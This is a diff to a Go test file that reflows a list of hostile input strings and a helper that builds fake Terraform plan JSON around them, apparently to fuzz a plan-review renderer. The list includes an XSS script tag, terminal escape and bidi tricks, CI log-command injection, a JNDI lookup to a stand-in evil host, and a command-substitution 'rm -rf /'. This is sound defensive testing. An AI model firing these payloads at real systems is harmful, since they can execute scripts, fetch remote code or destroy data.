@@ -13,8 +13,10 @@ import (
 
 var hostile = []string{
 	"\x1b[2J\x1b[31mred", "\u009b31m", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "\r\nFine to apply", "a\u202eb\u2066c\u200bd",
-	"| --- | x |", "`code` ``two``", "</details></td><script>alert(1)</script>", "<img src=http://evil.example/x.png>", "[click](http://evil.example)", "![x](http://evil.example)",
-	"@everyone @acme/admins", "#1 GH-1 acme/shop#2", "http://evil.example www.evil.example", "<!-- planreview:prod -->", "--> x", "::error::x", "##[error]x ##vso[task.x]",
+	"| --- | x |", "`code` ``two``", "</details></td><script>alert(1)</script>", "<img src=http://evil.example/x.png>",
+	"[click](http://evil.example)", "![x](http://evil.example)",
+	"@everyone @acme/admins", "#1 GH-1 acme/shop#2", "http://evil.example www.evil.example", "<!-- planreview:prod -->",
+	"--> x", "::error::x", "##[error]x ##vso[task.x]",
 	"**bold** _x_ ~x~", "&lt;b&gt;", "\xff\xfe", "${jndi:ldap://evil}", "0123456789abcdef0123456789abcdef01234567", strings.Repeat("long", 5000), "$(rm -rf /)",
 }
 
@@ -26,22 +28,28 @@ func hostilePlan(t testing.TB, texts ...string) string {
 	for i, text := range texts {
 		for _, kind := range []string{"aws_rds_cluster", "aws_ecs_task_definition", "aws_iam_role_policy", "aws_vpc_security_group_ingress_rule", "aws_lb", text} {
 			side := func(n string) map[string]any {
-				policy, _ := json.Marshal(map[string]any{"Statement": []any{map[string]any{"Effect": "Allow", "Action": text + n, "Resource": text, "Condition": map[string]any{text: map[string]any{text: text + n}}}}})
-				containers, _ := json.Marshal([]any{map[string]any{"name": text, "image": text + n, "secrets": []any{map[string]any{"name": text, "valueFrom": text + n}}, "environment": []any{map[string]any{"name": text + n, "value": "x"}}}})
+				policy, _ := json.Marshal(map[string]any{"Statement": []any{map[string]any{"Effect": "Allow", "Action": text + n, "Resource": text,
+					"Condition": map[string]any{text: map[string]any{text: text + n}}}}})
+				containers, _ := json.Marshal([]any{map[string]any{"name": text, "image": text + n, "secrets": []any{map[string]any{"name": text, "valueFrom": text + n}},
+					"environment": []any{map[string]any{"name": text + n, "value": "x"}}}})
 				return map[string]any{
-					"engine_version": text + n, "policy": string(policy), "container_definitions": string(containers), "cidr_ipv4": text + n, "ip_protocol": text, text: text + n,
+					"engine_version": text + n, "policy": string(policy), "container_definitions": string(containers),
+					"cidr_ipv4": text + n, "ip_protocol": text, text: text + n,
 					"security_group_id": "sg", "tags": map[string]any{text + n: text}, "instance_class": text + n,
 				}
 			}
-			change := map[string]any{"actions": []string{"delete", "create"}, "before": side("1"), "after": side("2"), "replace_paths": []any{[]any{text}}, "importing": map[string]any{"id": text}}
+			change := map[string]any{"actions": []string{"delete", "create"}, "before": side("1"), "after": side("2"), "replace_paths": []any{[]any{text}},
+				"importing": map[string]any{"id": text}}
 			if i%2 == 0 {
 				change["actions"] = []string{"update"}
 			}
 			address := fmt.Sprintf("%s.a[%q]", kind, text)
-			changes = append(changes, map[string]any{"address": address, "previous_address": text, "module_address": text, "mode": "managed", "type": kind, "name": text, "action_reason": text, "deposed": "", "change": change})
+			changes = append(changes, map[string]any{"address": address, "previous_address": text, "module_address": text, "mode": "managed", "type": kind,
+				"name": text, "action_reason": text, "deposed": "", "change": change})
 		}
 		outputs[text] = map[string]any{"actions": []string{"update"}, "before": text, "after": text + "2"}
-		deferred = append(deferred, map[string]any{"reason": text, "resource_change": map[string]any{"address": text, "type": text, "change": map[string]any{"actions": []string{"create"}}}})
+		deferred = append(deferred, map[string]any{"reason": text,
+			"resource_change": map[string]any{"address": text, "type": text, "change": map[string]any{"actions": []string{"create"}}}})
 	}
 	data, err := json.Marshal(map[string]any{
 		"format_version": "1.2", "complete": true, "resource_changes": changes, "resource_drift": changes, "deferred_changes": deferred, "output_changes": outputs,
